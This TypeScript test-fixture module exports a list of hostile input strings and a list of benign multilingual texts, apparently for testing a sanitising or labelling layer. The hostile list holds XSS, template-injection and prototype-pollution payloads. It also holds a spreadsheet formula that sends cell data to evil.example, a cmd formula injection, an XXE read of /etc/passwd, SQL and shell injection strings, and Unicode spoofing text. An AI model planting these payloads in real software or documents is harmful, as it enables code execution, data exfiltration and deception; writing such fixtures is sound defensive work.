import { marked } from './strangers.ts'

// Of our own making. Each would do something if one place, anywhere between the folder and a reader's spreadsheet, took
// it for more than a text: `wasRun` is set, evil.example is asked, an element appears, or the text comes out changed.
const run = 'globalThis.wasRun=1'

const mutating = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<xmp><!--</xmp><img src=x onerror=${run}>-->`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<select><style></select><img src=x onerror=${run}></style>`,
  `<a href="java\tscript:${run}" autofocus onfocus=${run}>here</a>`,
  `<details open ontoggle=${run}><summary>more</summary></details>`,
]
const pictures = [
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x">',
  `<svg><foreignObject><iframe src="javascript:${run}">`,
  '<svg><image href="https://evil.example/p.png"/></svg>',
  `<math><maction actiontype="statusline#https://evil.example" href="javascript:${run}">words</maction>`,
  '<img srcset="https://evil.example/a 1x"><video poster=https://evil.example/b autoplay>',
]
const loading = [
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<object data=https://evil.example/o><embed src=https://evil.example/e>',
  '<body background=//evil.example/b onload=1><div style="background:url(https://evil.example/c)">',
  '@import "https://evil.example/a.css"; } body { display: none } /*',
  '</style><style>@font-face{src:url(https://evil.example/f)}',
  '\\3c img src=x\\3e \\22 ; color: red',
]
const templates = [
  `{{7*7}} {{= 7*7 }} {% raw %} {{this.constructor.constructor('${run}')()}}`,
  '#{7*7} *{7*7} @{7*7} ~{7*7} ((7*7)) [[7*7]] {!7*7!}',
  `\`;${run};\` $\{${run}} $\{'\${7*7}'}`,
  '<?php echo 7*7 ?><%= 7*7 %><% run %>',
  '%(x)s %n %s %1$s {0} {count} {host} {letters}',
]
const scripts = [
  `</script><script>${run}</script>`,
  '<!--<script>',
  ']]><![CDATA[x]]>',
  `"});${run};({"`,
  `'-${run}-' \\";${run}//`,
  `*/${run}/* //# sourceMappingURL=https://evil.example/x.map`,
  `a\u2028${run}\u2029b`,
  "import('https://evil.example/x.js')",
  '{"__proto__":{"wasRun":1},"constructor":{"prototype":{"wasRun":1}}}',
  '__proto__[wasRun]=1&__proto__.wasRun=1',
  'valueOf',
  '__defineGetter__',
]
const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?x="&A1,"here")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,1)',
  '-2+3',
  '@SUM(1+1)',
  '\uFF1D1+1',
  "'=1+1",
  '","=1+1","',
  '";=1+1;"',
]
const entities = [
  '&#60;img src=x&#62; &lt;script&gt; &amp;lt;b&amp;gt;',
  'java&NewLine;script&colon;&lpar;1&rpar;',
  '&zwnj;&rlm;&#x202e;abc &#0; &nbsp',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
]
const markdown = [
  `![x](https://evil.example/p.png) [x](javascript:${run}) <https://evil.example>`,
  '# heading **strong** ~~gone~~ `code` | a | b |',
  '- [ ] to do 1. one > quote [^1]: note $$x$$',
  '```js',
  '1) one',
  '=====',
  'www.evil.example me@evil.example https://evil.example/x',
]
const calendars = ['a;X=1:b,c\\nEND:VEVENT', 'BEGIN:VALARM;TRIGGER:-PT1M', 'SUMMARY;ALTREP="cid:x":y']
const schemes = [
  `vbscript:${run} JaVaScRiPt&#58;${run}`,
  'file:///etc/passwd ws://evil.example blob:null/x view-source:https://evil.example',
  '//evil.example/x ../../etc/passwd C:\\con %2e%2e%2f',
  "' OR 1=1; DROP TABLE events-- $(touch x) `id` | tee",
]
const letters = [
  'раураl аррӏе \u0391pple',
  '\uFF1Cscript\uFF1E\uFE64img\uFE65 \u2039b\u203A',
  '\uFB01n \uFDFA \uFDFD \u{1242B} \u{A9C5}',
  '\u0130stanbul \u0131 \u00DF \u017F \u212A \u1E9E',
  `Z${'\u0300\u0489\u0336\u20DD'.repeat(12)}algo`,
  `${'\u0915\u094D'.repeat(60)}\u0915`,
  'a'.repeat(1500),
  `${'https://a.example/'.repeat(40)}`,
  'abc \u05D0\u05D1\u05D2 123 (def) \u0627\u0644\u062C\u0633\u0631 45/6',
  '\u0661\u0662\u0663 \u06F1\u06F2\u06F3 \u0967\u0968\u0969',
]
const unseen = [
  '\u2066\u2067\u2068\u2066 opened, never closed',
  '\u2069\u2069\u202C\u202C closed, never opened',
  'gpj.\u202Eexe.\u202Ddrow',
  'a\u0000b\u0007c\u001B[31md\u0008e\u0085f\u0090g\u007Fh',
  'in\u034Fvi\u115F\u1160si\u17B4\u17B5ble\uFFA0\u3164',
  'a\uFE00b\uFE0Fc\u{E0100}d\u180Be\u{E0061}\u{E007F}f',
  '\uFFF9a\uFFFAb\uFFFBc \uFFFC \u{1D173}\u{1D17A}',
  'no\uFFFE\uFDD0\u{1FFFF}n\uE000\u{F0000}\uFFFD',
  'ad\u200Dmin \u200Cx 7\u200D7 a\u2060b\u2061c\u2064d',
]

/** Texts that a hostile source may write. The mark stands behind: what they begin with is what some of them are about. */
export const hostileTexts: readonly string[] = [
  ...[
    mutating,
    pictures,
    loading,
    templates,
    scripts,
    formulas,
    entities,
    markdown,
    calendars,
    schemes,
    letters,
    unseen,
  ],
]
  .flat()
  .map((text, n) => `${text} ${marked}-${n}`)

/** Ordinary words of several languages, whose signs are spelling: nothing in them is to be labelled. */
export const plainTexts: readonly string[] = [
  'کتاب\u200Cها را می\u200Cخواهم',
  'ه\u200C و 5\u200Cساله',
  '\u2764\uFE0F 👩🏽\u200D✈\uFE0F 👨\u200D👩\u200D👧 🏳\uFE0F\u200D🌈 7\uFE0F\u20E3',
  '葛\u{E0100}城',
].map((text, n) => `${text} ${marked}-plain-${n}`)
